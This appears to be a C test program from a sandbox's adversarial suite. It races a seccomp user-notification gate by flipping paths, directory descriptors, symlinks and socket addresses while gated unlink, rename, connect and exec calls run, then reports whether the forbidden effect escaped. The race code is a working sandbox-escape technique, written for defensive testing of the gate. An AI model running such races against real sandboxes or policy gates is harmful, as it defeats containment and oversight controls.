/*
 * Time-of-check/time-of-use races against the gate. One thread keeps
 * flipping what a gated call will act on between an allowed and a
 * forbidden value while another thread makes the call, over and over
 * (ADV_ATTEMPTS, default 20000, bounded by ADV_SECONDS, default 60). A
 * gate that decides on one read of the target's memory and then lets the
 * kernel re-read it (SECCOMP_USER_NOTIF_FLAG_CONTINUE) loses this race;
 * one that performs exactly what it decided on does not.
 *
 *   unlink-flip OKPATH BADPATH        the path string flips
 *   cwd-flip NAME OKDIR BADDIR        the cwd flips (fchdir), NAME relative
 *   dirfd-flip NAME OKDIR BADDIR      the dirfd number is re-pointed (dup2)
 *   symlink-swap DIR NAME BADDIR      DIR is exchanged with a symlink to
 *                                     BADDIR (renameat2 RENAME_EXCHANGE)
 *   rename-flip OKPATH BADPATH DEST   rename(path, DEST); the source flips
 *   rename-dest-flip SRC OKDEST BADDEST  rename(SRC, path); the destination
 *                                     flips (escaped: BADDEST replaced)
 *   renameat-dirfd-flip NAME OKDIR BADDIR DEST  renameat(dirfd, NAME, ..);
 *                                     the dirfd is re-pointed (dup2)
 *   connect-flip OKADDR OKPORT BADADDR BADPORT    the sockaddr flips (TCP;
 *                                     OKPORT must be closed: a connect
 *                                     that succeeds reached BADADDR)
 *   sendto-flip  OKADDR OKPORT BADADDR BADPORT    the same for UDP sendto
 *   exec-flip-vfork OKPROG BADPROG    vfork child execs a path that the
 *                                     parent's other thread flips
 *   exec-flip-thread OKPROG BADPROG   fork; in the child a thread flips
 *                                     the path its main thread execs
 *   exec-symlink-flip LINK OKPROG BADPROG  LINK re-pointed while exec'd
 *
 * Prints "ESCAPED ..." and exits 0 when it can see the forbidden effect
 * itself (BADPATH gone; $ADV_MARKER exists), else "HELD ..." and exits 1;
 * network effects are checked by the test's listener. Attacker code.
 */
#include "adv.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

extern char **environ;

static atomic_bool g_stop;
static char g_path[4096] __attribute__((aligned(64)));
static char g_ok[4096], g_bad[4096];
static struct sockaddr_in g_sa, g_sa_ok, g_sa_bad;
static int g_fd_ok = -1, g_fd_bad = -1, g_fd_slot = -1;
static const char *g_swap_a, *g_swap_b;

/* The flipper variants. Each runs until g_stop. The compiler barrier
 * keeps every store: without it, two stores to the same object with only
 * a relaxed load between them may be merged and the forbidden value
 * never written at all. */
#define BARRIER() __asm__ volatile("" ::: "memory")
static void *flip_path(void *unused)
{
	(void)unused;
	size_t n = sizeof g_ok;
	for (unsigned i = 0; !atomic_load_explicit(&g_stop, memory_order_relaxed); i++)
		{ memcpy(g_path, i & 1 ? g_bad : g_ok, n); BARRIER(); }
	return NULL;
}

static void *flip_sockaddr(void *unused)
{
	(void)unused;
	for (unsigned i = 0; !atomic_load_explicit(&g_stop, memory_order_relaxed); i++)
		{ memcpy(&g_sa, i & 1 ? &g_sa_bad : &g_sa_ok, sizeof g_sa); BARRIER(); }
	return NULL;
}

static void *flip_cwd(void *unused)
{
	(void)unused;
	for (unsigned i = 0; !atomic_load_explicit(&g_stop, memory_order_relaxed); i++)
		(void)!fchdir(i & 1 ? g_fd_bad : g_fd_ok);
	return NULL;
}

static void *flip_dirfd(void *unused)
{
	(void)unused;
	for (unsigned i = 0; !atomic_load_explicit(&g_stop, memory_order_relaxed); i++)
		dup2(i & 1 ? g_fd_bad : g_fd_ok, g_fd_slot);
	return NULL;
}

static void *flip_rename(void *unused)
{
	(void)unused;
	while (!atomic_load_explicit(&g_stop, memory_order_relaxed))
		syscall(SYS_renameat2, AT_FDCWD, g_swap_a, AT_FDCWD, g_swap_b, RENAME_EXCHANGE);
	return NULL;
}

static void start(void *(*fn)(void *), pthread_t *t)
{
	atomic_store(&g_stop, false);
	if (pthread_create(t, NULL, fn, NULL) != 0)
		adv_die("pthread_create");
}

static void stop(pthread_t t)
{
	atomic_store(&g_stop, true);
	pthread_join(t, NULL);
}

static void set_sa(struct sockaddr_in *sa, const char *addr, const char *port)
{
	memset(sa, 0, sizeof *sa);
	sa->sin_family = AF_INET;
	sa->sin_port = htons((uint16_t)atoi(port));
	if (inet_pton(AF_INET, addr, &sa->sin_addr) != 1) {
		adv_say("SETUP bad address '%s'\n", addr);
		_exit(ADV_SETUP);
	}
}

static bool marker_exists(void)
{
	const char *m = getenv("ADV_MARKER");
	struct stat st;
	return m && stat(m, &st) == 0;
}

/* Relative to the directory the program started in, whatever the cwd is
 * now (cwd-flip changes it under our feet). */
static int g_base = AT_FDCWD;

static bool path_gone(const char *p)
{
	struct stat st;
	return fstatat(g_base, p, &st, AT_SYMLINK_NOFOLLOW) < 0 && errno == ENOENT;
}

static void touch_at(int dirfd, const char *name)
{
	int fd = openat(dirfd, name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	if (fd >= 0)
		close(fd);
}

struct tally {
	long attempts, ok, denied, other, killed;
	double t0;
};

static void count(struct tally *t, long rc, int err)
{
	t->attempts++;
	if (rc >= 0)
		t->ok++;
	else if (err == EPERM || err == EACCES)
		t->denied++;
	else
		t->other++;
}

static bool budget_left(const struct tally *t, long max, double secs)
{
	return t->attempts < max && adv_now() - t->t0 < secs;
}

static int finish(const char *mode, const struct tally *t, bool escaped, const char *what)
{
	adv_say("%s %s attempts=%ld ok=%ld denied=%ld other=%ld killed=%ld seconds=%.1f%s%s\n",
		escaped ? "ESCAPED" : "HELD", mode, t->attempts, t->ok, t->denied, t->other,
		t->killed, adv_now() - t->t0, escaped ? ": " : "", escaped ? what : "");
	return escaped ? ADV_OK : ADV_DENIED;
}

/* One exec attempt: returns 0 exec'd ok prog, 1 denied, 2 other, 3 killed. */
static int exec_once_vfork(void)
{
	char *argv[] = { g_path, NULL };
	pid_t pid = vfork();
	if (pid < 0)
		return 2;
	if (pid == 0) {
		long rc = syscall(SYS_execve, g_path, argv, environ);
		_exit(rc < 0 && (errno == EPERM || errno == EACCES) ? 101 : 102);
	}
	int st;
	if (waitpid(pid, &st, 0) < 0)
		return 2;
	if (WIFSIGNALED(st))
		return 3;
	return WEXITSTATUS(st) == 101 ? 1 : WEXITSTATUS(st) == 102 ? 2 : 0;
}

static int exec_once_thread(void)
{
	pid_t pid = fork();
	if (pid < 0)
		return 2;
	if (pid == 0) {
		pthread_t t;
		char *argv[] = { g_path, NULL };
		start(flip_path, &t);
		long rc = syscall(SYS_execve, g_path, argv, environ);
		_exit(rc < 0 && (errno == EPERM || errno == EACCES) ? 101 : 102);
	}
	int st;
	if (waitpid(pid, &st, 0) < 0)
		return 2;
	if (WIFSIGNALED(st))
		return 3;
	return WEXITSTATUS(st) == 101 ? 1 : WEXITSTATUS(st) == 102 ? 2 : 0;
}

static void tally_exec(struct tally *t, int r)
{
	t->attempts++;
	if (r == 0)
		t->ok++;
	else if (r == 1)
		t->denied++;
	else if (r == 3)
		t->killed++;
	else
		t->other++;
}

int main(int argc, char **argv)
{
	long max = adv_env_long("ADV_ATTEMPTS", 20000);
	double secs = (double)adv_env_long("ADV_SECONDS", 60);
	struct tally t = { .t0 = adv_now() };
	pthread_t th;
	if (argc < 2) {
		fprintf(stderr, "usage: adv_race MODE ARGS... (see the source)\n");
		return ADV_SETUP;
	}
	const char *mode = argv[1];
	g_base = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (g_base < 0)
		adv_die("open .");
#define NEED(n) do { if (argc < (n)) { adv_say("SETUP %s needs %d arguments\n", mode, (n) - 2); return ADV_SETUP; } } while (0)

	if (!strcmp(mode, "unlink-flip")) {
		NEED(4);
		snprintf(g_ok, sizeof g_ok, "%s", argv[2]);
		snprintf(g_bad, sizeof g_bad, "%s", argv[3]);
		memcpy(g_path, g_ok, sizeof g_ok);
		start(flip_path, &th);
		while (budget_left(&t, max, secs) && !path_gone(g_bad)) {
			touch_at(AT_FDCWD, g_ok);
			long rc = adv_unlink(g_path);
			count(&t, rc, errno);
		}
		stop(th);
		return finish(mode, &t, path_gone(g_bad), argv[3]);
	}
	if (!strcmp(mode, "rename-flip") || !strcmp(mode, "rename-dest-flip")) {
		/* a guarded name moved away or replaced by a rename whose
		 * source (or destination) string flips while it is held */
		NEED(5);
		bool dest = !strcmp(mode, "rename-dest-flip");
		const char *fixed = dest ? argv[2] : argv[4];
		struct stat before;
		snprintf(g_ok, sizeof g_ok, "%s", argv[dest ? 3 : 2]);
		snprintf(g_bad, sizeof g_bad, "%s", argv[dest ? 4 : 3]);
		memcpy(g_path, g_ok, sizeof g_ok);
		if (fstatat(g_base, g_bad, &before, AT_SYMLINK_NOFOLLOW) < 0)
			adv_die(g_bad);
		start(flip_path, &th);
		bool escaped = false;
		while (budget_left(&t, max, secs) && !escaped) {
			struct stat now;
			touch_at(AT_FDCWD, dest ? fixed : g_ok);
			long rc = dest ? syscall(SYS_rename, fixed, g_path)
				       : syscall(SYS_rename, g_path, fixed);
			count(&t, rc, errno);
			escaped = fstatat(g_base, g_bad, &now, AT_SYMLINK_NOFOLLOW) < 0 ||
				  now.st_ino != before.st_ino;
		}
		stop(th);
		return finish(mode, &t, escaped, g_bad);
	}
	if (!strcmp(mode, "renameat-dirfd-flip")) {
		NEED(6);
		char bad[4200];
		snprintf(bad, sizeof bad, "%s/%s", argv[4], argv[2]);
		g_fd_ok = open(argv[3], O_PATH | O_DIRECTORY | O_CLOEXEC);
		g_fd_bad = open(argv[4], O_PATH | O_DIRECTORY | O_CLOEXEC);
		int okdir = open(argv[3], O_DIRECTORY | O_CLOEXEC);
		if (g_fd_ok < 0 || g_fd_bad < 0 || okdir < 0)
			adv_die("open dirs");
		g_fd_slot = dup(g_fd_ok);
		start(flip_dirfd, &th);
		while (budget_left(&t, max, secs) && !path_gone(bad)) {
			touch_at(okdir, argv[2]);
			long rc = syscall(SYS_renameat, g_fd_slot, argv[2], AT_FDCWD, argv[5]);
			count(&t, rc, errno);
		}
		stop(th);
		return finish(mode, &t, path_gone(bad), bad);
	}
	if (!strcmp(mode, "cwd-flip") || !strcmp(mode, "dirfd-flip")) {
		NEED(5);
		char bad[4200];
		snprintf(bad, sizeof bad, "%s/%s", argv[4], argv[2]);
		g_fd_ok = open(argv[3], O_PATH | O_DIRECTORY | O_CLOEXEC);
		g_fd_bad = open(argv[4], O_PATH | O_DIRECTORY | O_CLOEXEC);
		int okdir = open(argv[3], O_DIRECTORY | O_CLOEXEC);
		if (g_fd_ok < 0 || g_fd_bad < 0 || okdir < 0)
			adv_die("open dirs");
		bool cwd = !strcmp(mode, "cwd-flip");
		if (!cwd)
			g_fd_slot = dup(g_fd_ok);
		start(cwd ? flip_cwd : flip_dirfd, &th);
		while (budget_left(&t, max, secs) && !path_gone(bad)) {
			touch_at(okdir, argv[2]);
			long rc = cwd ? adv_unlink(argv[2]) : adv_unlinkat(g_fd_slot, argv[2], 0);
			count(&t, rc, errno);
		}
		stop(th);
		return finish(mode, &t, path_gone(bad), bad);
	}
	if (!strcmp(mode, "symlink-swap")) {
		/* DIR is a real directory; DIR.swap a symlink to BADDIR; they
		 * are exchanged atomically in a loop while DIR/NAME is removed. */
		NEED(5);
		char swap[4200], path[4200], bad[4200];
		snprintf(swap, sizeof swap, "%s.swap", argv[2]);
		snprintf(path, sizeof path, "%s/%s", argv[2], argv[3]);
		snprintf(bad, sizeof bad, "%s/%s", argv[4], argv[3]);
		if ((mkdir(argv[2], 0755) < 0 && errno != EEXIST) || (symlink(argv[4], swap) < 0 && errno != EEXIST))
			adv_die("setup swap");
		int real = open(argv[2], O_DIRECTORY | O_CLOEXEC);
		if (real < 0)
			adv_die(argv[2]);
		g_swap_a = argv[2];
		g_swap_b = swap;
		start(flip_rename, &th);
		while (budget_left(&t, max, secs) && !path_gone(bad)) {
			touch_at(real, argv[3]);
			long rc = adv_unlink(path);
			count(&t, rc, errno);
		}
		stop(th);
		return finish(mode, &t, path_gone(bad), bad);
	}
	if (!strcmp(mode, "connect-flip") || !strcmp(mode, "sendto-flip")) {
		NEED(6);
		set_sa(&g_sa_ok, argv[2], argv[3]);
		set_sa(&g_sa_bad, argv[4], argv[5]);
		g_sa = g_sa_ok;
		bool tcp = !strcmp(mode, "connect-flip");
		int udp = tcp ? -1 : socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		start(flip_sockaddr, &th);
		/* Nothing listens on OKPORT: a connect that succeeds reached
		 * the forbidden address. */
		while (budget_left(&t, max, secs) && !(tcp && t.ok)) {
			long rc;
			if (tcp) {
				int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
				if (fd < 0)
					adv_die("socket");
				rc = syscall(SYS_connect, fd, &g_sa, sizeof g_sa);
				count(&t, rc, errno);
				close(fd);
			} else {
				rc = syscall(SYS_sendto, udp, "adv-race", 8, 0, &g_sa, sizeof g_sa);
				count(&t, rc, errno);
			}
		}
		stop(th);
		return finish(mode, &t, tcp && t.ok, "a connect reached BADADDR");
	}
	if (!strcmp(mode, "exec-flip-vfork") || !strcmp(mode, "exec-flip-thread")) {
		NEED(4);
		snprintf(g_ok, sizeof g_ok, "%s", argv[2]);
		snprintf(g_bad, sizeof g_bad, "%s", argv[3]);
		memcpy(g_path, g_ok, sizeof g_ok);
		bool vf = !strcmp(mode, "exec-flip-vfork");
		if (vf)
			start(flip_path, &th);
		while (budget_left(&t, max, secs) && !marker_exists())
			tally_exec(&t, vf ? exec_once_vfork() : exec_once_thread());
		if (vf)
			stop(th);
		return finish(mode, &t, marker_exists(), "the forbidden program ran");
	}
	if (!strcmp(mode, "exec-symlink-flip")) {
		NEED(5);
		char alt[4200];
		snprintf(alt, sizeof alt, "%s.alt", argv[2]);
		unlink(argv[2]);
		unlink(alt);
		if (symlink(argv[3], argv[2]) < 0 || symlink(argv[4], alt) < 0)
			adv_die("symlinks");
		snprintf(g_path, sizeof g_path, "%s", argv[2]);
		g_swap_a = argv[2];
		g_swap_b = alt;
		start(flip_rename, &th);
		while (budget_left(&t, max, secs) && !marker_exists())
			tally_exec(&t, exec_once_vfork());
		stop(th);
		return finish(mode, &t, marker_exists(), "the forbidden program ran");
	}
	adv_say("SETUP unknown mode '%s'\n", mode);
	return ADV_SETUP;
}
